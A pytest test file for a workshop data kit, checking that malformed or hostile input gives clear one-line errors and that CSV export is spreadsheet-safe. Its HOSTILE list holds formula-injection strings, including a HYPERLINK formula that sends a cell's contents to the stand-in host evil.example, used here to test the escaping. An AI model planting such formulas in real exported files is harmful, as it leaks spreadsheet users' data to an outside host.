"""Hostile and careless input (issue 8): each case gets one clear line naming the file, row and column, no command
prints a traceback or "internal error", damaged stores are refused clearly, and no vote is lost.

The cases that are a broken engagement folder live in tests/data/bad/ and test_validate.py; here are the ones that
need a workbook, a link, a store, a command or many processes."""

import csv
import multiprocessing
import os
import shutil
import sqlite3
import subprocess
import sys
import time

import openpyxl
import pytest

from conftest import MINIMAL, overlay
from kit import KitError, ValidationError, open_engagement
from kit._io import escape_cell, unescape_cell
from kit._schema import TABLES
from kit.validate import validate


def run_cli(*args, cwd=None):
    r = subprocess.run(
        [sys.executable, "-m", "kit", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    out = r.stdout + r.stderr
    assert "Traceback" not in out and "internal error" not in out, out
    return r.returncode, out


def errors(path):
    return [p.text() for p in validate(path).errors]


# ---------------------------------------------------------------- reading


def test_commands_give_one_line_for_a_yaml_bomb(tmp_path):
    folder = overlay("yaml_alias_engagement", tmp_path / "bomb")
    start = time.monotonic()
    code, out = run_cli("validate", folder)
    assert code == 1 and "engagement.yaml row 5: is not valid YAML (aliases" in out
    code, out = run_cli("import", folder, tmp_path / "bomb.db")
    assert code == 1 and "Nothing was imported." in out
    assert time.monotonic() - start < 60  # not a timing test: a bomb that expanded would not finish at all
    assert not (tmp_path / "bomb.db").exists()  # a rejected import leaves no store behind


def test_a_cell_over_the_limit_names_file_row_column(minimal):
    with open(minimal / "goals.csv", "a") as f:
        f.write(f'k1,s1,"{"x" * 200_000}",financial,team\n')
    assert errors(minimal) == ["goals.csv row 8, column goal: holds 200,000 characters; a cell holds at most 10,000"]


def test_a_file_over_the_limit(minimal, monkeypatch):
    import kit._io._read

    monkeypatch.setattr(kit._io._read, "MAX_FILE_BYTES", 100)
    found = errors(minimal)
    assert any(e.startswith("goals.csv: is 0.0 MB; the kit reads files of at most 0 MB") for e in found), found
    assert not any("session_id" in e for e in found)  # files not read are not checked against


def _europe(folder):
    """The folder as Excel saves it in much of Europe: ';' between values, decimal commas."""
    for path in folder.glob("*.csv"):
        rows = list(csv.reader(open(path, encoding="utf-8")))
        with open(path, "w", encoding="utf-8-sig", newline="") as f:
            w = csv.writer(f, delimiter=";")
            for r in rows:
                w.writerow([c.replace(".", ",") if c.replace(".", "", 1).isdigit() else c for c in r])


def test_semicolons_and_decimal_commas_are_read(minimal, tmp_path):
    _europe(minimal)
    assert "0,5" in (minimal / "commitments.csv").read_text(encoding="utf-8-sig")
    ds = validate(minimal)
    assert ds.errors == [], [p.text() for p in ds.errors]
    with open_engagement(tmp_path / "eu.db", create=True) as eng:
        eng.import_source(minimal)
        assert sorted(eng.commitments()["win_rate"]) == [0.25, 0.3, 0.5]
    with open_engagement(tmp_path / "plain.db", create=True) as eng:
        eng.import_source(MINIMAL)
        assert sorted(eng.commitments()["win_rate"]) == [0.25, 0.3, 0.5]


def test_an_ods_workbook_is_refused_in_one_line(tmp_path):
    (tmp_path / "capture.ods").write_bytes(b"PK\x03\x04 not really")
    assert errors(tmp_path / "capture.ods") == [
        "capture.ods: is a LibreOffice (OpenDocument) spreadsheet, which the kit does not read; in LibreOffice use "
        "File > Save As > 'Excel 2007-365 (.xlsx)'"
    ]


def _workbook(path, edit):
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    ws = wb.create_sheet("engagement")
    ws.append(["field", "value"])
    for k, v in (("name", "W"), ("client", "C"), ("currency", "EUR")):
        ws.append([k, v])
    for name in TABLES:
        if (MINIMAL / f"{name}.csv").exists():
            ws = wb.create_sheet(name)
            for rec in csv.reader(open(MINIMAL / f"{name}.csv", encoding="utf-8")):
                ws.append(rec)
    edit(wb)
    wb.save(path)
    return path


def test_sheet_names_differing_in_case_or_space_are_refused(tmp_path):
    def twin(wb):
        ws = wb.create_sheet("Goals ")
        ws.append(TABLES["goals"].names)

    found = errors(_workbook(tmp_path / "c.xlsx", twin))
    assert found == [
        "c.xlsx: has two sheets named 'goals' and 'Goals '; sheet names are read without regard to "
        "case and spaces: keep one"
    ], found


def test_merged_cells_are_refused(tmp_path):
    found = errors(_workbook(tmp_path / "c.xlsx", lambda wb: wb["goals"].merge_cells("C2:C3")))
    assert found == [
        "c.xlsx, sheet goals: has merged cells (C2:C3); unmerge them (Home > Merge & Center) and fill in every cell"
    ], found
    code, out = run_cli("validate", tmp_path / "c.xlsx")
    assert code == 1 and "merged cells" in out


def test_a_link_out_of_the_folder_is_refused(minimal, tmp_path):
    outside = tmp_path / "secret.csv"
    shutil.copyfile(minimal / "goals.csv", outside)
    (minimal / "goals.csv").unlink()
    (minimal / "goals.csv").symlink_to(outside)
    assert errors(minimal) == [
        "goals.csv: is a link to a file outside the engagement folder; copy the file itself into the folder"
    ]


def test_utf16_is_named(minimal):
    text = (minimal / "goals.csv").read_text(encoding="utf-8")
    (minimal / "goals.csv").write_bytes(text.encode("utf-16"))
    [e] = errors(minimal)
    assert e.startswith("goals.csv row 1: is not UTF-8 text (byte 0xff); it looks like UTF-16")


# ---------------------------------------------------------------- export: spreadsheet-safe and lossless

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"x")',
    "+1-555-0100",
    "-5% churn",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "''=two quotes",
    "'plain quote",
    "a = b",
    "$5k on $50k",
]


def test_export_is_spreadsheet_safe_and_import_reads_it_back_unchanged(store, tmp_path):
    for i, text in enumerate(HOSTILE, start=1):
        store.add("swot", dict(session_id="r1", item_id=f"h{i}", quadrant="S", text=text, control="team"))
    store.export(tmp_path / "out")
    cells = [r["text"] for r in csv.DictReader(open(tmp_path / "out" / "swot.csv", encoding="utf-8-sig", newline=""))]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert '\'=HYPERLINK("http://evil.example/?d="&B2,"x")' in cells and "a = b" in cells
    with open_engagement(tmp_path / "back.db", create=True) as back:
        back.import_source(tmp_path / "out")
        got = dict(zip(back.swot(session_id="r1")["item_id"], back.swot(session_id="r1")["text"]))
    assert [got[f"h{i}"] for i in range(1, len(HOSTILE) + 1)] == HOSTILE
    for text in HOSTILE:
        assert unescape_cell(escape_cell(text)) == text


def test_export_force_removes_the_kits_stale_files_only(store, tmp_path):
    out = tmp_path / "out"
    code, out_text = run_cli("export", store.path, out)
    assert code == 0, out_text
    # an earlier export wrote a KPI catalogue and a rubric that the store no longer holds (its manifest says so)
    (out / "kpi_catalog.yaml").write_text("kpis: []\n")
    (out / "rubrics").mkdir()
    (out / "rubrics" / "old.yaml").write_text("id: old\n")
    with open(out / ".workshop-kit-export", "a") as f:
        f.write("kpi_catalog.yaml\nrubrics/old.yaml\n")
    (out / "rubrics" / "mine.yaml").write_text("id: mine\n")
    (out / "notes.txt").write_text("mine")
    code, _ = run_cli("export", store.path, out)
    assert code == 1
    code, out_text = run_cli("export", store.path, out, "--force")
    assert code == 0, out_text
    assert not (out / "kpi_catalog.yaml").exists() and not (out / "rubrics" / "old.yaml").exists()
    assert (out / "notes.txt").read_text() == "mine" and (out / "rubrics" / "mine.yaml").read_text() == "id: mine\n"
    assert "rubrics/old.yaml" not in (out / ".workshop-kit-export").read_text()
    (out / "rubrics" / "mine.yaml").unlink()
    assert validate(out).errors == []


# ---------------------------------------------------------------- stores


def _damaged(store, tmp_path, how):
    store.close()
    path = shutil.copyfile(store.path, tmp_path / f"{how}.db")
    con = sqlite3.connect(path)
    if how == "empty_version":
        con.execute("DELETE FROM schema_version")
    elif how == "text_version":
        con.execute("UPDATE schema_version SET version = 'two'")
    elif how == "missing_table":
        con.execute("DROP TABLE goals")
    elif how == "bad_meta":
        con.execute("UPDATE meta SET value = '{oops' WHERE key = 'client'")
    con.commit()
    con.close()
    if how == "corrupt_page":
        with open(path, "r+b") as f:
            f.seek(4096 * 10)
            f.write(b"\xff" * 4096 * 4)
    return path


@pytest.mark.parametrize(
    "how, words",
    [
        ("empty_version", "the store is damaged: its schema_version table holds nothing, not one version number"),
        ("text_version", "the store is damaged: its schema_version table holds 'two', not one version number"),
        ("missing_table", "the store is damaged: table goals is missing"),
        ("bad_meta", "the store is damaged: setting 'client' holds '{oops', which is not valid JSON"),
        ("corrupt_page", "the store is damaged (database disk image is malformed)"),
    ],
)
def test_a_damaged_store_is_one_clear_line(store, tmp_path, how, words):
    path = _damaged(store, tmp_path, how)
    outputs = []
    for args in (
        ("summary", path),
        ("export", path, tmp_path / f"out-{how}"),
        ("import", MINIMAL, path),
        ("report", path, "--out", tmp_path / f"rep-{how}"),
    ):
        code, out = run_cli(*args)
        assert code == 1, out
        outputs.append(out)
    assert any(f"{path}: {words}" in out for out in outputs), outputs
    assert all("restore it from a backup" in out for out in outputs), outputs


def test_a_full_disk_names_the_cause_and_writes_nothing(store):
    (pages,) = store._con.execute("PRAGMA page_count")
    store._con.execute(f"PRAGMA max_page_count = {pages[0]}")
    before = len(store.goals())
    rows = [dict(session_id="k1", member_id="s1", goal="x" * 4000, category="other", visibility="team")] * 30
    with pytest.raises(KitError) as e:
        store.add("goals", rows)
    assert str(e.value) == (
        f"{store.path}: the disk is full (database or disk is full); free some disk space and "
        "try again (nothing was written)"
    )
    assert len(store.goals()) == before


def test_a_read_only_store_is_read_and_refuses_writes_clearly(store, tmp_path, monkeypatch):
    import kit._store._connection

    store.close()
    path = shutil.copyfile(store.path, tmp_path / "usb.db")
    monkeypatch.setattr(kit._store._connection, "_writable", lambda p: False)  # as on a USB stick or a read-only share
    with open_engagement(path) as eng:
        assert eng.readonly and len(eng.goals()) == 6 and eng.settings["name"] == "Minimal test engagement"
        eng.export(tmp_path / "out")
        with pytest.raises(KitError, match="the store is read-only; copy it to a folder you can write to"):
            eng.add("pulse", dict(session_id="k1", score=3))
    assert validate(tmp_path / "out").errors == []


def test_a_rejected_import_leaves_no_store_and_an_empty_store_is_refused(tmp_path):
    bad = overlay("empty_engagement", tmp_path / "bad")
    code, out = run_cli("import", bad, tmp_path / "new.db")
    assert code == 1 and "engagement.yaml: is empty" in out
    assert sorted(os.listdir(tmp_path)) == ["bad"]
    open_engagement(tmp_path / "blank.db", create=True).close()
    code, out = run_cli("summary", tmp_path / "blank.db")
    assert code == 1 and "is empty; import an engagement folder into it first" in out


def test_a_form_shows_a_store_error_instead_of_raising(store):
    from kit.forms import swot_vote_form

    form = swot_vote_form(store, session_id="k1", reveal=True)
    form.voter.value = "s1"
    store._con.execute("PRAGMA query_only = ON")  # every write now fails inside sqlite
    assert form.add("i1") is False
    assert "Not saved" in form.message.value and "minimal.db" in form.message.value


# ---------------------------------------------------------------- writes check only what they touch


def _full_check(monkeypatch):
    import kit._store

    monkeypatch.setattr(kit._store.Engagement, "_scoped", lambda self, con, **kw: None)


BAD_WRITES = [
    ("add", "goals", dict(session_id="k1", member_id="zed", goal="x", category="other", visibility="team")),
    ("add", "goals", dict(session_id="k9", member_id="s1", goal="x", category="other", visibility="team")),
    ("add", "accounts", dict(session_id="k1", member_id="zed", account="Acme", why="", visibility="team")),
    ("add", "accounts", dict(session_id="k9", member_id="s1", account="Acme", why="", visibility="team")),
    (
        "add",
        "commitments",
        dict(session_id="k1", member_id="s1", annual_commitment=1, avg_deal_size=1, win_rate=0.5, sales_cycle_days=10),
    ),
    ("add", "swot_votes", dict(session_id="k1", item_id="i1", voter_id="s1", dots=3)),
    ("add", "swot_votes", dict(session_id="k1", item_id="i9", voter_id="s1", dots=1)),
    ("add", "kpis", dict(session_id="k1", scope="Mars", kpi_id="win_rate", target=1, period="week")),
    (
        "add",
        "roleplay",
        dict(
            session_id="k1",
            scenario="Call A",
            rubric_id="discovery_call",
            seller_id="s1",
            rater_id="s2",
            rater_role="manager",
            criterion_id="opening",
            score=3,
        ),
    ),
    ("add", "members", dict(member_id="s9", team_id="t7", name="N", role="seller", territory="E", annual_quota=1)),
    ("add", "kpi_actuals", dict(member_id="ghost", kpi_id="win_rate", period_end="2026-01-31", value=1)),
    ("delete", "members", {"member_id": "s3"}),
    ("delete", "swot", {"session_id": "k1", "item_id": "i2"}),
    ("delete", "sessions", {"session_id": "k1"}),
    ("update", "members", ({"member_id": "s2"}, dict(team_id="t9"))),
    ("update", "sessions", ({"session_id": "r1"}, dict(leader_id="zed"))),
    ("update", "teams", ({"team_id": "t1"}, dict(manager_id="s1"))),
    ("settings", None, dict(dot_budget=2)),
]


@pytest.mark.parametrize("op, table, arg", BAD_WRITES, ids=[f"{o}-{t}-{i}" for i, (o, t, _) in enumerate(BAD_WRITES)])
def test_a_write_checked_on_its_rows_says_what_the_full_check_says(tmp_path, op, table, arg, monkeypatch):
    def attempt():
        path = tmp_path / f"s{len(list(tmp_path.iterdir()))}.db"
        with open_engagement(path, create=True) as eng:
            eng.import_source(MINIMAL)
            with pytest.raises(ValidationError) as e:
                if op == "add":
                    eng.add(table, arg)
                elif op == "delete":
                    eng.delete(table, arg)
                elif op == "update":
                    eng.update(table, arg[0], **arg[1])
                else:
                    eng.set_settings(**arg)
        return str(e.value)

    scoped = attempt()
    _full_check(monkeypatch)
    assert scoped == attempt()


def test_good_writes_pass_the_scoped_check(store):
    store.add_many(
        {
            "teams": dict(team_id="t2", name="Two", manager_id="m2", annual_target=10),
            "members": dict(member_id="m2", team_id="t2", name="M", role="manager", territory="", annual_quota=0),
        }
    )
    store.update("members", {"member_id": "s1"}, territory="North")
    store.update("sessions", {"session_id": "r1"}, leader_id="s3")
    store.put("kpi_actuals", dict(member_id="s1", kpi_id="win_rate", period_end="2026-03-31", value="30%"))
    assert store.add_dots("swot_votes", dict(session_id="k1", item_id="i1", voter_id="s3"), 1) >= 1


# ---------------------------------------------------------------- no vote is lost

VOTERS, ITEMS, PROCESSES, ROUNDS = ("mgr", "s1", "s2", "s3"), ("i1", "i2", "i3", "i4"), 30, 4


def _cast(args):
    path, worker, barrier = args
    from kit import open_engagement
    from kit.forms import swot_vote_form

    with open_engagement(path) as eng:
        form = swot_vote_form(eng, session_id="k1")
        form.voter.value = VOTERS[worker % len(VOTERS)]
        barrier.wait()
        saved = 0
        for i in range(ROUNDS):
            saved += bool(form.add(ITEMS[(worker + i) % len(ITEMS)]))
        return saved


def test_thirty_devices_voting_at_once_lose_no_dot(store):
    import kit.forms  # noqa: F401  (imported once, before the processes fork)

    store.set_settings(dot_budget=1000)
    before = store.swot_votes(session_id="k1").set_index(["item_id", "voter_id"])["dots"].to_dict()
    ctx = multiprocessing.get_context("fork")
    with multiprocessing.Manager() as manager:
        barrier = manager.Barrier(PROCESSES)
        with ctx.Pool(PROCESSES) as pool:
            saved = pool.map(_cast, [(str(store.path), w, barrier) for w in range(PROCESSES)])
    assert saved == [ROUNDS] * PROCESSES
    expected = dict(before)
    for w in range(PROCESSES):
        for i in range(ROUNDS):
            key = (ITEMS[(w + i) % len(ITEMS)], VOTERS[w % len(VOTERS)])
            expected[key] = expected.get(key, 0) + 1
    after = store.swot_votes(session_id="k1").set_index(["item_id", "voter_id"])["dots"].to_dict()
    assert after == expected
    assert sum(after.values()) == sum(before.values()) + PROCESSES * ROUNDS


def test_the_dot_budget_holds_under_concurrent_votes(store):
    store.set_settings(dot_budget=5)
    key = dict(session_id="r1", item_id="i9", voter_id="s1")
    store.add("swot", dict(session_id="r1", item_id="i9", quadrant="S", text="x", control="team"))
    for _ in range(5):
        store.add_dots("swot_votes", key, 1)
    with pytest.raises(ValidationError, match="brings s1's dots in session r1 to more than 5"):
        store.add_dots("swot_votes", key, 1)
    assert store.swot_votes(session_id="r1", voter_id="s1")["dots"].sum() == 5


# ---------------------------------------------------------------- charts


def test_dollar_signs_are_drawn_as_typed():
    import pandas as pd

    from kit import _blocks, charts
    from kit.steps.swot.section import chart

    ranked = pd.DataFrame(dict(text=["$5k on $50k deals", "Win big $$ deals"], votes=[3, 2], quadrant=["S", "O"]))
    drawn = _blocks.html(chart(ranked))  # the HTML chart of the documents, the notebooks and the wall
    assert "$5k on $50k deals" in drawn and "Win big $$ deals" in drawn
    data = pd.DataFrame(dict(member_id=["s1", "s2"], annual_commitment=[900_000, 1_100_000]))
    fig = charts.commitments(data, target=2_000_000, share=1_000_000, names={"s1": "$$ Sam", "s2": "Sue $5k"})
    fig.canvas.draw()  # the deck's image: "$$" raised ValueError when read as maths
    texts = [t.get_text() for t in fig.findobj(lambda a: hasattr(a, "get_text"))]
    assert "$$ Sam" in texts and "Sue $5k" in texts


# ---------------------------------------------------------------- report output folders


def test_report_writes_only_where_it_may_and_removes_only_its_own_files(store, tmp_path):
    from kit._batch import render_reports

    out = tmp_path / "mine"
    (out / "t1" / "k1").mkdir(parents=True)
    (out / "index.html").write_text("my own index")
    (out / "t1" / "k1" / "notes.txt").write_text("my notes")
    code, text = run_cli("report", store.path, "--out", out, "--session", "k1")
    assert code == 1 and f"{out} is not empty and was not made by 'workshop-kit report'" in text
    assert (out / "index.html").read_text() == "my own index"
    opts = dict(sessions=["k1"], audiences=("team",), jobs=1, progress=False)
    with pytest.raises(KitError, match="index.html was not written by the kit"):  # --force replaces no file of theirs
        render_reports(store.path, out, formats=("html", "pdf"), force=True, **opts)
    assert (out / "index.html").read_text() == "my own index"
    (out / "index.html").rename(out / "my_index.html")
    [job] = render_reports(store.path, out, formats=("html", "pdf"), force=True, **opts)
    assert job.error is None and (out / "t1" / "k1" / "team.pdf").is_file()
    assert (out / "t1" / "k1" / "notes.txt").read_text() == "my notes"
    [job] = render_reports(store.path, out, formats=("html",), force=True, **opts)  # made by the kit now: no --force
    assert job.error is None
    assert (out / "t1" / "k1" / "team.pdf").is_file()  # a format not asked for is left as it is
    assert (out / "t1" / "k1" / "notes.txt").read_text() == "my notes"
    code, text = run_cli("report", store.path, "--out", out, "--session", "k1", "--audience", "team")
    assert code == 0, text


def test_a_store_on_a_read_only_file_system(store, tmp_path):
    """A real read-only mount (a USB stick, a share), where sqlite cannot even make its journal files."""
    mnt = tmp_path / "usb"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("cannot mount a file system here (needs root)")
    try:
        store.close()
        shutil.copyfile(store.path, mnt / "s.db")
        subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
        code, out = run_cli("summary", mnt / "s.db")
        assert code == 0 and "Minimal test engagement" in out, out
        code, out = run_cli("export", mnt / "s.db", tmp_path / "out")
        assert code == 0, out
        code, out = run_cli("import", MINIMAL, mnt / "s.db")
        assert code == 1 and "the store is read-only; copy it to a folder you can write to" in out, out
        assert sorted(os.listdir(mnt)) == ["s.db"]
    finally:
        subprocess.run(["umount", str(mnt)])


def test_summary_csv_cells_are_spreadsheet_safe():
    from kit._batch import _csv_value

    assert _csv_value('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
    assert _csv_value("@cmd") == "'@cmd" and _csv_value("Loyal customers") == "Loyal customers"
    assert _csv_value(-10000.0) == "-10000" and _csv_value(-1) == "-1"  # numbers stay numbers


# ---------------------------------------------------------------- the kit never removes or overwrites a user's file

EXPORT_MANIFEST = ".workshop-kit-export"


def test_export_force_keeps_the_users_own_same_named_files(store, tmp_path):
    out = tmp_path / "out"
    (out / "rubrics").mkdir(parents=True)
    (out / "rubrics" / "my_rubric.yaml").write_text("id: my_rubric\n")
    (out / "kpi_catalog.yaml").write_text("kpis: []\n")
    code, text = run_cli("export", store.path, out, "--force")
    assert code == 0, text
    assert (out / "rubrics" / "my_rubric.yaml").read_text() == "id: my_rubric\n"
    assert (out / "kpi_catalog.yaml").read_text() == "kpis: []\n"
    assert "goals.csv" in (out / EXPORT_MANIFEST).read_text().split()


def test_export_force_refuses_to_overwrite_a_file_it_did_not_write(store, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "goals.csv").write_text("my own goals")
    code, text = run_cli("export", store.path, out, "--force")
    assert code == 1
    assert text.strip() == (
        f"workshop-kit: {out / 'goals.csv'} was not written by the kit; move it away or export into a new folder"
    )
    assert sorted(os.listdir(out)) == ["goals.csv"] and (out / "goals.csv").read_text() == "my own goals"


def test_a_write_through_the_api_applies_the_cell_checks(store):
    row = dict(session_id="k1", member_id="s1", category="financial", visibility="team")
    before = len(store.goals())
    with pytest.raises(ValidationError) as e:
        store.add("goals", dict(row, goal="x" * 200_000))
    assert str(e.value).splitlines()[0] == (
        "new goals row, column goal: holds 200,000 characters; a cell holds at most 10,000"
    )
    for bad in (["a"], {"a": 1}, {"a"}, ("a",)):
        with pytest.raises(ValidationError) as e:
            store.add("goals", dict(row, goal=bad))
        assert str(e.value).splitlines()[0].startswith("new goals row, column goal: is a "), str(e.value)
    with pytest.raises(ValidationError):
        store.put("commitments", dict(session_id="k1", member_id="s1", annual_commitment=[1]))
    [rid] = store.add("goals", dict(row, goal="fine"))
    with pytest.raises(ValidationError) as e:
        store.update("goals", {"row_id": rid}, goal="y" * 10_001)
    assert "column goal: holds 10,001 characters; a cell holds at most 10,000" in str(e.value)
    assert len(store.goals()) == before + 1 and "fine" in set(store.goals()["goal"])


@pytest.mark.parametrize(
    "name, prefix",
    [("engagement.yaml", "name: "), ("kpi_catalog.yaml", "kpis: "), ("rubrics/deep.yaml", "criteria: ")],
)
def test_deeply_nested_yaml_is_one_line(minimal, name, prefix):
    (minimal / name).parent.mkdir(exist_ok=True)
    (minimal / name).write_text(prefix + "[" * 50_000 + "]" * 50_000 + "\n")
    code, out = run_cli("validate", minimal)
    assert code == 1
    assert f"{name} row 1: is not valid YAML (nested more than 100 levels deep" in out, out


def test_export_to_a_file_gives_one_line(store, tmp_path):
    (tmp_path / "afile").write_text("x")
    code, out = run_cli("export", store.path, tmp_path / "afile")
    assert code == 1 and out.strip() == f"workshop-kit: {tmp_path / 'afile'} is a file; give a folder", out
    code, out = run_cli("export", store.path, tmp_path / "afile" / "sub")
    assert code == 1 and out.strip().startswith(f"workshop-kit: cannot make the folder {tmp_path / 'afile' / 'sub'}")
    assert (tmp_path / "afile").read_text() == "x"


def test_export_into_a_folder_it_may_not_write_leaves_nothing(store, tmp_path, monkeypatch):
    import builtins

    import kit._io._write

    real_open, calls = builtins.open, []

    def failing_open(path, mode="r", *a, **k):
        if "w" in mode:
            calls.append(path)
            if len(calls) == 4:
                raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, mode, *a, **k)

    monkeypatch.setattr(kit._io._write, "open", failing_open, raising=False)
    out = tmp_path / "new" / "out"
    with pytest.raises(KitError) as e:
        store.export(out)
    assert str(e.value).startswith(f"cannot write the folder {out}: Permission denied") and "\n" not in str(e.value)
    assert not (tmp_path / "new").exists()  # nothing a later import would pick up
    monkeypatch.undo()
    store.export(out)
    (out / "swot.csv").write_text("theirs?")  # a kit file in its own manifest
    monkeypatch.setattr(kit._io._write, "open", failing_open, raising=False)
    calls.clear()
    with pytest.raises(KitError):
        store.export(out)
    assert sorted(os.listdir(out)) == []  # the failed re-export left no mix of old and new files


def test_export_into_a_read_only_folder(store, tmp_path):
    mnt = tmp_path / "ro"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "ro", "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("cannot mount a file system here (needs root)")
    try:
        code, out = run_cli("export", store.path, mnt / "out")
        assert code == 1 and out.strip().startswith(f"workshop-kit: cannot make the folder {mnt / 'out'}"), out
        code, out = run_cli("export", store.path, mnt, "--force")
        assert code == 1 and out.strip().startswith(f"workshop-kit: cannot write the folder {mnt}"), out
        assert os.listdir(mnt) == []
    finally:
        subprocess.run(["umount", str(mnt)])


def test_report_force_refuses_to_replace_a_file_it_did_not_write(store, tmp_path):
    out = tmp_path / "mine"
    (out / "t1" / "k1").mkdir(parents=True)
    (out / "summary.csv").write_text("my summary")
    (out / "t1" / "k1" / "team.html").write_text("my team page")
    code, text = run_cli("report", store.path, "--out", out, "--session", "k1", "--audience", "team", "--force")
    assert code == 1
    assert text.strip() == (
        f"workshop-kit: {out / 'summary.csv'} was not written by the kit; move it away or render into a new folder"
    )
    (out / "summary.csv").unlink()
    code, text = run_cli("report", store.path, "--out", out, "--session", "k1", "--audience", "team", "--force")
    assert code == 1 and f"{out / 't1' / 'k1' / 'team.html'} was not written by the kit" in text
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*")) == ["t1", "t1/k1", "t1/k1/team.html"]
    assert (out / "t1" / "k1" / "team.html").read_text() == "my team page"
